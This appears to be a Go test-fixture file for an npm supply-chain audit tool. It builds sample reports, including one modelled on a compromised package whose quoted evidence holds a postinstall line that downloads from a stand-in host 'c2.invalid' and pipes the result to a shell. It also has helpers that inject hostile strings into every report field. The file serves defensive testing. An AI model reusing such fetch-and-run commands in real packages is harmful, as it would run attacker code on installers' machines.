package report

import (
	"slices"
	"strings"

	"github.com/amalfi-audit/audit/internal/detector"
	"github.com/amalfi-audit/audit/internal/feature"
	"github.com/amalfi-audit/audit/internal/lockfile"
	"github.com/amalfi-audit/audit/internal/npm"
	"github.com/amalfi-audit/audit/internal/program"
)

func testRules() map[string]*detector.Rule {
	rules := make(map[string]*detector.Rule)
	for _, r := range []detector.Rule{
		{ID: "install-script-added", Title: "An install script was added", Help: "The version runs commands when it is installed.\n\nRead them.", Level: detector.Note, Tags: []string{"install"}},
		{ID: "install-script-download", Title: "An install script downloads and runs a file", Help: "The command fetches a file from the network and runs it.\n\nDo not install the version before you know the file.", Level: detector.Error, Tags: []string{"install", "network"}},
		{ID: "manifest-mismatch", Title: "Tarball and registry disagree", Help: "The manifest in the tarball differs from the registry's.", Level: detector.Warning, Tags: []string{"registry", detector.TagSignal}},
		{ID: "native-binary-added", Title: "A native executable was added", Help: "The version has an executable that the one before did not have.", Level: detector.Note, Tags: []string{"binary", detector.TagSignal}},
		{ID: "resolved-host-changed", Title: "Packages come from another host", Help: "The lockfile names another host for versions that stayed.", Level: detector.Warning, Tags: []string{"lockfile"}},
	} {
		rules[r.ID] = &r
	}
	return rules
}

// sampleReport has every outcome, kind of change and part of a report.
func sampleReport() *detector.Report {
	pv := func(name, version string) npm.PackageVersion { return npm.PackageVersion{Name: name, Version: version} }
	clean := func(name, from, to string, line int) detector.Verdict {
		return detector.Verdict{
			Lockfile: "package-lock.json", Location: detector.Location{Path: "package-lock.json", Line: line, Column: 5},
			Change: lockfile.Updated, Kind: lockfile.KindRegistry, Subject: pv(name, to), From: []string{from},
			Direct: true, Dev: line%2 == 0, Complete: true,
		}
	}
	quiet := clean("esbuild", "0.25.0", "0.25.1", 60)
	quiet.Findings = []detector.Finding{{
		RuleID: "install-script-added", Level: detector.Note, Confidence: detector.High, Subject: quiet.Subject,
		Message:  "The version has a postinstall script, as the one before.",
		Evidence: []detector.Evidence{{Path: "package.json", Line: 8, Column: 5, Snippet: `"postinstall": "node install.js"`}},
	}}
	quiet.Compared = "0.25.0"
	quiet.Capabilities = []feature.Capability{
		{Feature: "network", Does: "talks to the network", New: true, Path: "install.js", Line: 12, Column: 3, Phase: program.AtInstall},
		{Feature: "environment", Does: "reads process.env", Details: []string{"ESBUILD_BINARY", "A<b>\u202e|`"}, More: 3, Path: "lib/main.js", Line: 3, Column: 1, Phase: program.AtImport},
	}
	flatmap := pv("flatmap-stream", "0.1.1")
	return &detector.Report{
		Base: "main", Head: "renovate/event-stream",
		Rules: testRules(),
		Unread: []detector.Unread{
			{Path: "apps/web/yarn.lock", Line: 12, Reason: "a merge conflict is not resolved here (resolve it and run the package manager's install)"},
			{Path: "tools/package.json", Reason: "there is no lockfile for this manifest"},
		},
		Projects: []detector.ProjectVerdict{
			{
				Lockfile: "package-lock.json", Format: "npm v3", Outcome: detector.Warn, Complete: true,
				Findings: []detector.Finding{{
					RuleID: "resolved-host-changed", Level: detector.Warning, Confidence: detector.Medium,
					Location: detector.Location{Path: "package-lock.json", Line: 33, Column: 7},
					Message:  `12 packages whose version stayed are now fetched from "mirror.invalid".`,
					Evidence: []detector.Evidence{
						{Path: "package-lock.json", Line: 33, Column: 7, Snippet: `"resolved": "https://mirror.invalid/a/-/a-1.0.0.tgz",`},
						{Path: "package-lock.json", Line: 47, Column: 7, Snippet: `"resolved": "https://mirror.invalid/b/-/b-2.1.0.tgz",`},
						{Note: "and 10 more"},
					},
				}},
			},
			{Lockfile: "docs/pnpm-lock.yaml", Format: "pnpm v9", Complete: true},
			{Lockfile: "old/yarn.lock", Format: "yarn classic v1", Reasons: []string{"3 dependencies of package.json have no entry"}},
		},
		Versions: []detector.Verdict{
			clean("lodash", "4.17.20", "4.17.21", 210),
			clean("@types/node", "22.1.0", "22.2.0", 41),
			quiet,
			{
				Lockfile: "package-lock.json", Location: detector.Location{Path: "package-lock.json", Line: 4711, Column: 5},
				Change: lockfile.Updated, Kind: lockfile.KindRegistry, Subject: flatmap, From: []string{"0.1.0"},
				Chain:   []string{"web-app-server@2.0.1", "event-tools@1.4.0", "event-stream@3.3.6", "event-map@1.0.0"},
				Outcome: detector.Block, Complete: true, Compared: "0.1.0",
				Capabilities: []feature.Capability{{Feature: "install-scripts", Does: "runs an install script", New: true, Details: []string{"postinstall"}, Path: "package.json", Line: 12, Column: 19}},
				Findings: []detector.Finding{
					{
						RuleID: "install-script-download", Level: detector.Error, Confidence: detector.High, Subject: flatmap,
						Message: `The postinstall script downloads a file from "c2.invalid" and runs it with a shell, and its output is discarded.`,
						Evidence: []detector.Evidence{
							{Path: "package.json", Line: 12, Column: 19, Snippet: `curl -s https://c2.invalid/x | sh > /dev/null 2>&1`},
							{Path: "lib/setup.js", Line: 3, Column: 1, Note: "the same host", Snippet: "require('child_process').exec('curl -s https://c2.invalid/' + process.env.npm_package_name + ' | sh')"},
						},
					},
					{
						RuleID: "install-script-added", Level: detector.Note, Confidence: detector.High, Subject: flatmap,
						Message:  "The version has a postinstall script, the one before had none.",
						Evidence: []detector.Evidence{{Path: "package.json", Line: 12, Column: 5, Snippet: `"postinstall": "curl -s https://c2.invalid/x | sh > /dev/null 2>&1"`}},
					},
				},
			},
			{
				Lockfile: "package-lock.json", Location: detector.Location{Path: "package-lock.json", Line: 802, Column: 5},
				Change: lockfile.Added, Kind: lockfile.KindRegistry, Subject: pv("left-padder", "1.0.0"),
				Chain: []string{"ui-kit@4.0.0"}, Outcome: detector.Warn, Complete: true,
				Capabilities: []feature.Capability{{Feature: "binary", Does: "ships binary files", New: true, Path: "bin/pad"}},
				Findings: []detector.Finding{
					{
						RuleID: "manifest-mismatch", Level: detector.Note, Confidence: detector.Medium, Subject: pv("left-padder", "1.0.0"),
						Message:  `The tarball's manifest has the script "preinstall", which the registry does not list.`,
						Evidence: []detector.Evidence{{Path: "package.json", Line: 6, Column: 5}},
					},
					{
						RuleID: "native-binary-added", Level: detector.Note, Confidence: detector.High, Subject: pv("left-padder", "1.0.0"),
						Message:  "The version has a native executable for Linux.",
						Evidence: []detector.Evidence{{Path: "bin/pad"}},
					},
				},
			},
			{
				Lockfile: "package-lock.json", Location: detector.Location{Path: "package-lock.json", Line: 1200, Column: 5},
				Change: lockfile.Updated, Kind: lockfile.KindGit, Subject: pv("@acme/forms", "2.0.0"), From: []string{"1.9.0"},
				Direct: true, Reasons: []string{"the tarball could not be downloaded: 503 Service Unavailable after 4 attempts"},
			},
		},
	}
}

// cleanReport is the usual case.
func cleanReport() *detector.Report {
	r := sampleReport()
	return &detector.Report{Base: r.Base, Head: r.Head, Rules: r.Rules, Projects: r.Projects[1:2], Versions: r.Versions[:3]}
}

// acceptedReport has a version and a lockfile that are clean since what was
// found in them is accepted, and a version that is not although something is.
func acceptedReport() *detector.Report {
	r := sampleReport()
	because := func(f *detector.Finding, reason, expires string) {
		f.Accepted = &detector.Acceptance{Reason: reason, Expires: expires}
	}
	bytes, err := npm.ParseIntegrity("sha512-" + strings.Repeat("A", 86) + "==")
	if err != nil {
		panic(err)
	}
	accepted, warned := &r.Versions[3], &r.Versions[4]
	accepted.Outcome, accepted.Integrity = detector.Clean, bytes
	because(&accepted.Findings[0], "read by us: the host is our own mirror, see acme/web#12", "2030-12-31")
	warned.Outcome = detector.Clean // one signal is left
	because(&warned.Findings[0], "the script is harmless", "")
	r.Projects[0].Outcome = detector.Clean
	because(&r.Projects[0].Findings[0], "we moved to the mirror", "")
	return &detector.Report{Base: r.Base, Head: r.Head, Rules: r.Rules, Projects: r.Projects[:2], Versions: r.Versions[2:5],
		Notices: []string{`.amalfi.yml:7: the entry for "left-pad@1.3.0" expired on 2026-01-31 and accepts nothing.`}}
}

// clearedReport has versions whose source was looked for: one that is its source's,
// one that is not, and one whose source could not be asked.
func clearedReport() *detector.Report {
	r := sampleReport()
	for id, rule := range map[string]detector.Rule{
		"decision-tree":  {Title: "The decision tree flags the change", Level: detector.Note, Tags: []string{detector.TagClassifier, detector.TagSignal, detector.TagReversible}},
		"obfuscation":    {Title: "Code is obfuscated", Level: detector.Warning, Tags: []string{detector.TagCode, detector.TagSignal, detector.TagReversible}},
		"foreign-change": {Title: "The tarball changed code and the source did not", Level: detector.Error, Tags: []string{"source"}},
	} {
		rule.ID, rule.Help = id, rule.Title+"."
		r.Rules[id] = &rule
	}
	tree := func(v *detector.Verdict) detector.Finding {
		return detector.Finding{RuleID: "decision-tree", Level: detector.Note, Confidence: detector.Medium, Subject: v.Subject,
			Message: "the decision tree flags the change: minified > 0", Evidence: []detector.Evidence{{Path: "index.js", Line: 1, Column: 1, Note: "minified"}}}
	}
	hidden := func(v *detector.Verdict) detector.Finding {
		return detector.Finding{RuleID: "obfuscation", Level: detector.Warning, Confidence: detector.High, Subject: v.Subject,
			Message: "the code is obfuscated: it hides its control flow", Evidence: []detector.Evidence{{Path: "index.js", Line: 3, Column: 5}}}
	}
	cleared, blocked, warned := &r.Versions[0], &r.Versions[1], &r.Versions[2]
	cleared.Findings = []detector.Finding{hidden(cleared), tree(cleared)}
	for i := range cleared.Findings {
		cleared.Findings[i].Cleared = "14 of 14 runnable files are in git.example.invalid/lodash/lodash@0123456789ab"
	}
	cleared.Source = &detector.SourceSummary{Verdict: "reproduced", Repository: "git.example.invalid/lodash/lodash", Commit: strings.Repeat("0123456789abcdef", 3)[:40],
		How: "tag", Tag: "4.17.21", Reach: "reachable", Runnable: 14, RunnableInSource: 14, Score: 1, Changed: 3, Explained: 3}
	blocked.Outcome = detector.Block
	blocked.Findings = []detector.Finding{{RuleID: "foreign-change", Level: detector.Error, Confidence: detector.High, Subject: blocked.Subject,
		Message:  "the tarball changed 1 file that can run, and the source git.example.invalid/types/types did not, together with decision-tree",
		Evidence: []detector.Evidence{{Path: "index.js", Note: `the source has the same "types/node/index.js" at fedcba987654 and 0123456789ab`}}}, tree(blocked)}
	blocked.Source = &detector.SourceSummary{Verdict: "not-reproduced", Repository: "git.example.invalid/types/types", Commit: strings.Repeat("0123456789abcdef", 3)[:40],
		Directory: "types/node", How: "gitHead", Reach: "reachable", Runnable: 8, RunnableInSource: 7, Score: 0.875, Changed: 2, Explained: 1,
		Unexplained: []detector.SourceChange{{Path: "index.js", Change: "foreign"}}}
	warned.Outcome = detector.Warn
	warned.Findings = []detector.Finding{hidden(warned)}
	warned.Source = &detector.SourceSummary{Verdict: "source-unreachable", Reasons: []string{"gitHead: commit 0123456789ab of git.example.invalid/e/e: the source took more than 3m0s"}}
	return &detector.Report{Base: r.Base, Head: r.Head, Rules: r.Rules, Projects: r.Projects[1:2], Versions: r.Versions[:3]}
}

// emptyReport has nothing to audit.
func emptyReport() *detector.Report { return &detector.Report{Head: "main"} }

// hostileReport has a payload in every string that can come from outside.
func hostileReport(payload string) *detector.Report {
	place := detector.Location{Path: payload, Line: 3, Column: 7}
	subject := npm.PackageVersion{Name: payload, Version: payload}
	findings := func(level detector.Level) []detector.Finding {
		return []detector.Finding{{
			RuleID: "install-script-download", Level: level, Subject: subject, Location: place, Message: payload,
			Evidence: []detector.Evidence{
				{Path: payload, Line: 1, Column: 2, Snippet: payload, Note: payload},
				{Snippet: payload}, {Note: payload}, {Path: payload},
			},
		}}
	}
	r := &detector.Report{
		Base: payload, Head: payload, Rules: testRules(),
		Unread: []detector.Unread{{Path: payload, Line: 1, Reason: payload}},
	}
	for _, o := range []detector.Outcome{detector.Clean, detector.Warn, detector.Block} {
		for _, complete := range []bool{true, false} {
			level := detector.Level(o) // a note is clean, a warning warns, an error blocks
			of := findings(level)
			if o == detector.Clean && complete {
				of = append(of, findings(detector.Error)...)
				of[1].Accepted = &detector.Acceptance{Reason: payload, Expires: payload}
			}
			if o == detector.Warn {
				of = append(of, findings(detector.Note)...)
				of[len(of)-1].Cleared = payload
			}
			r.Projects = append(r.Projects, detector.ProjectVerdict{
				Lockfile: payload, Format: payload, Outcome: o, Complete: complete,
				Reasons: []string{payload, payload}, Findings: of,
			})
			r.Versions = append(r.Versions, detector.Verdict{
				Lockfile: payload, Location: place, Change: lockfile.Updated, Kind: lockfile.Kind(payload), Subject: subject,
				From: []string{payload, payload}, Chain: []string{payload, payload}, Dev: true,
				Outcome: o, Complete: complete, Reasons: []string{payload}, Findings: slices.Clone(of),
				Source: &detector.SourceSummary{Verdict: payload, Repository: payload, Commit: payload, Directory: payload, How: payload, Tag: payload,
					Reach: payload, Runnable: 1, Changed: 1, Unexplained: []detector.SourceChange{{Path: payload, Change: payload}}, Reasons: []string{payload, payload}},
			})
		}
	}
	return r
}

func sampleChanges() []lockfile.Change {
	integrity := func(text string) npm.Integrity {
		in, err := npm.ParseIntegrity(text)
		if err != nil {
			panic(err)
		}
		return in
	}
	dep := func(name, version string, kind lockfile.Kind) lockfile.Dependency {
		return lockfile.Dependency{PackageVersion: npm.PackageVersion{Name: name, Version: version}, Kind: kind}
	}
	resolved := func(d lockfile.Dependency, url string) lockfile.Dependency { d.Resolved = url; return d }
	digest := func(d lockfile.Dependency, text string) lockfile.Dependency { d.Integrity = integrity(text); return d }
	checksum := func(d lockfile.Dependency, text string) lockfile.Dependency { d.Checksum = text; return d }
	deps := func(all ...lockfile.Dependency) []lockfile.Dependency { return all }
	const (
		reg, git = lockfile.KindRegistry, lockfile.KindGit
		lock     = "package-lock.json"
	)
	return []lockfile.Change{
		{Type: lockfile.Updated, Name: "berry", Kind: reg, Lockfile: "web/yarn.lock", From: deps(dep("berry", "1.0.0", reg)), To: deps(dep("berry", "1.1.0", reg), dep("berry", "2.0.0", reg))},
		{Type: lockfile.IntegrityChanged, Name: "sum", Kind: reg, Lockfile: "web/yarn.lock", From: deps(checksum(dep("sum", "1.0.0", reg), "10/aa")), To: deps(checksum(dep("sum", "1.0.0", reg), "10/bb"))},
		{Type: lockfile.Added, Name: "a", Kind: reg, Lockfile: lock, To: deps(dep("a", "1.0.0", reg))},
		{Type: lockfile.Removed, Name: "b", Kind: reg, Lockfile: lock, From: deps(dep("b", "2.0.0-rc.1", reg))},
		{Type: lockfile.Updated, Name: "@acme/c", Kind: git, Lockfile: lock,
			From: deps(resolved(dep("@acme/c", "1.0.0", git), "git+ssh://git@host.invalid/c.git#1111")),
			To:   deps(resolved(dep("@acme/c", "1.0.0", git), "git+ssh://git@host.invalid/c.git#2222"))},
		{Type: lockfile.Updated, Name: "d", Kind: lockfile.KindURL, Lockfile: lock,
			From: deps(resolved(dep("d", "1.0.0", lockfile.KindURL), "https://host.invalid/d1.tgz")),
			To:   deps(resolved(dep("d", "", lockfile.KindURL), "https://host.invalid/d2.tgz"))},
		{Type: lockfile.IntegrityChanged, Name: "e", Kind: reg, Lockfile: lock,
			From: deps(digest(dep("e", "1.0.0", reg), "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=")), To: deps(dep("e", "1.0.0", reg))},
		{Type: lockfile.HostChanged, Name: "f", Kind: reg, Lockfile: lock,
			From: deps(resolved(dep("f", "1.0.0", reg), "https://one.invalid/f/-/f-1.0.0.tgz")),
			To:   deps(resolved(dep("f", "1.0.0", reg), "https://TWO.invalid:8443/f/-/f-1.0.0.tgz"))},
		{Type: lockfile.SourceChanged, Name: "g", Kind: git, Lockfile: lock,
			From: deps(dep("g", "1.0.0", reg)),
			To:   deps(resolved(dep("g", "1.0.0", git), "git+https://host.invalid/g.git#3333"))},
	}
}

func sampleLockfiles() []*lockfile.Lockfile {
	dep := func(name, version, resolved string, kind lockfile.Kind, line int) lockfile.Dependency {
		return lockfile.Dependency{PackageVersion: npm.PackageVersion{Name: name, Version: version}, Resolved: resolved, Kind: kind, Line: line, Column: 5}
	}
	hashed := dep("lodash", "4.17.21", "https://registry.invalid/lodash/-/lodash-4.17.21.tgz", lockfile.KindRegistry, 12)
	hashed.Integrity, _ = npm.ParseIntegrity("sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=")
	return []*lockfile.Lockfile{
		{Path: "web/yarn.lock", Dependencies: []lockfile.Dependency{
			dep("@acme/forms", "2.0.0", "git+https://host.invalid/forms.git#4444", lockfile.KindGit, 4),
			dep("link", "", "", lockfile.KindDirectory, 9),
		}},
		{Path: "package-lock.json", Dependencies: []lockfile.Dependency{hashed}},
		{Path: "empty/bun.lock"},
	}
}

// hostileChanges and hostileLockfiles are hostileReport for the lists.
func hostileChanges(payload string) []lockfile.Change {
	d := lockfile.Dependency{
		PackageVersion: npm.PackageVersion{Name: payload, Version: payload},
		Resolved:       "https://" + payload + "/" + payload, Checksum: payload, Kind: lockfile.Kind(payload),
	}
	var out []lockfile.Change
	for _, t := range []lockfile.ChangeType{lockfile.Added, lockfile.Removed, lockfile.Updated, lockfile.IntegrityChanged, lockfile.HostChanged, lockfile.SourceChanged} {
		out = append(out, lockfile.Change{Type: t, Name: payload, Kind: lockfile.Kind(payload), Lockfile: payload,
			From: []lockfile.Dependency{d}, To: []lockfile.Dependency{d}})
	}
	return out
}

func hostileLockfiles(payload string) []*lockfile.Lockfile {
	return []*lockfile.Lockfile{{Path: payload, Dependencies: []lockfile.Dependency{{
		PackageVersion: npm.PackageVersion{Name: payload, Version: payload}, Resolved: payload, Kind: lockfile.Kind(payload), Line: 1,
	}}}}
}
